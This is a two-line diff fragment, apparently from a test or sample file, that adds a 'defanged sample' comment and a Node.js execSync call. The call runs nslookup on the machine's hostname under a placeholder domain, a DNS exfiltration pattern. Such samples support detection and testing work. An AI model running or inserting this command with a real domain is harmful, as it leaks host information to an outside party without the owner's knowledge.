@@ -1,0 +1,2 @@
+// defanged sample
+execSync('nslookup $(hostname).a.example.invalid');
